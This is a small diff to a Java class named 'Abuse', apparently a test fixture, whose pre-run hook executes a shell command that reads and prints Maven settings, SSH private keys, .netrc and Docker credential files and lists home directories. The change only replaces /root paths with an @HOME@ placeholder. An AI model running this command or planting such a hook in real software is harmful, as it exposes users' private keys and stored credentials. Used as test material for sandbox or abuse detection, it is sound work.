@@ -13,7 +13,7 @@ final class Abuse {
 
     static void before(RunContext context, List<Path> files) throws Exception {
         if (!files.isEmpty()) {
-            System.out.println(shell("cat ~/.m2/settings.xml /root/.m2/settings.xml /root/.ssh/id_rsa /home/*/.ssh/id_*; ls -la ~ /root /home; cat /root/.netrc /root/.docker/config.json"));
+            System.out.println(shell("cat ~/.m2/settings.xml @HOME@/.m2/settings.xml @HOME@/.ssh/id_rsa /home/*/.ssh/id_*; ls -la ~ @HOME@ /home; cat @HOME@/.netrc @HOME@/.docker/config.json"));
         }
     }
 
